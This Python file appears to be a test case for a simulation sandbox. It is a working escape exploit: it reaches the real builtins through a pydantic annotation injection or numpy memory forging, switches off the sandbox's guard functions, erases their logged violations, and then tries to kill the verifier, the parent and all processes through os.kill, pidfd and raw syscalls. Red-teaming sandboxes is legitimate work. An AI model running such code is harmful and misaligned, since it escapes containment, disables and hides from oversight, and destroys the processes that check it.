# expect: runtime
# Take the verifier down: signal the zygote (pid 1 in its namespace), the parent, every process (-1), the process
# group, through os.kill / killpg, signal.pidfd_send_signal on a pidfd, and raw kill / tgkill / pidfd_* syscalls.
import math

import numpy as np
import sim

loot = {}


def note(label, step):
    """Run one attempt; keep a short line on what it gave."""
    try:
        value = step()
    except BaseException as exc:
        loot[label] = 'no ' + repr(exc).replace('PermissionError', 'PE')[:60]
        return None
    loot[label] = 'GOT ' + (f'dict of {len(value)}' if isinstance(value, dict) else repr(value)[:90])
    return value


def builtins_via_annotation():
    """pydantic evaluates a string annotation of a model subclass with the real builtins."""
    payload = "__import__('sys').modules['math'].__dict__.__setitem__('stash', __builtins__) or 'int'"
    for base in (lambda: sim.SceneSpec, lambda: type(sim.on('a', 'b')), lambda: type(sim.Scene('pick_place').spec())):
        try:
            class Probe(base()):
                probe: payload = None
        except BaseException:
            pass
        try:
            return math.stash
        except AttributeError:
            pass
    raise LookupError('no SDK class took the string annotation')


def builtins_via_numpy():
    """An object-dtype ndarray over a raw buffer turns any address into an object: fake a bytearray spanning all of
    memory, read a trusted function's func_builtins pointer, and turn that into the real builtins dict."""
    def object_at(address):
        return np.ndarray((1,), dtype=object, buffer=bytearray(address.to_bytes(8, 'little')))[0]

    fake = b''.join(n.to_bytes(8, 'little') for n in (1 << 40, id(bytearray), 1 << 62, 0, 0, 0, 0))
    memory = object_at(id(fake) + 32)
    if type(sim.place) is not type(note):
        return None
    return object_at(int.from_bytes(bytes(memory[id(sim.place) + 24:id(sim.place) + 32]), 'little'))


def escape():
    """(real builtins, the sandbox's child module) with the Python guards switched off, or (None, None)."""
    real = note('builtins via pydantic annotation', builtins_via_annotation) or note(
        'builtins via numpy object dtype', builtins_via_numpy)
    if not isinstance(real, dict) or '__import__' not in real:
        return None, None
    child = real['__import__']('sys').modules['sim.sandbox.child']
    for rule in ('_event_problem', 'import_problem', 'attribute_problem'):
        real['setattr'](child, rule, lambda *args, **kwargs: None)
    return real, child


def cover_tracks(real, child):
    """Forget the violations the guards recorded before they were switched off."""
    if real is not None:
        for entry in real['getattr'](child, '_PREPARED').values():
            entry[1].clear()


def report():
    """What worked first (the error message is cut at 500 characters)."""
    return repr(sorted(loot.items(), key=lambda item: not item[1].startswith('GOT')))


real, child = escape()
if real is not None:
    sysm = real['__import__']('sys')
    osm = real['__import__']('os')
    signal = real['__import__']('signal')
    targets = {'zygote': 1, 'parent': osm.getppid(), 'everyone': -1, 'group': 0}
    for label, pid in targets.items():
        note('os.kill ' + label, lambda: osm.kill(pid, 9))
        note('posix.kill ' + label, lambda: sysm.modules['posix'].kill(pid, 9))
    note('killpg', lambda: osm.killpg(osm.getpgid(0), 9))
    note('pidfd_send_signal', lambda: signal.pidfd_send_signal(osm.pidfd_open(1), 9))
    note('libc kill zygote', lambda: sysm.modules['ctypes'].CDLL(None).kill(1, 9))
    ctypes = sysm.modules.get('ctypes')
    if ctypes is not None:
        libc = ctypes.CDLL(None, use_errno=True)
        for label, args in (('kill -1', (62, -1, 9)), ('kill 1', (62, 1, 9)), ('tgkill 1', (234, 1, 1, 9)),
                            ('pidfd_open 1', (434, 1, 0)), ('pidfd_send_signal', (424, 0, 9, 0, 0)),
                            ('rt_sigqueueinfo', (129, 1, 9, 0)), ('ptrace attach', (101, 16, 1, 0, 0))):
            note('syscall ' + label, lambda: (libc.syscall(*args), ctypes.get_errno()))
    cover_tracks(real, child)
raise RuntimeError('kill attempts: ' + report())
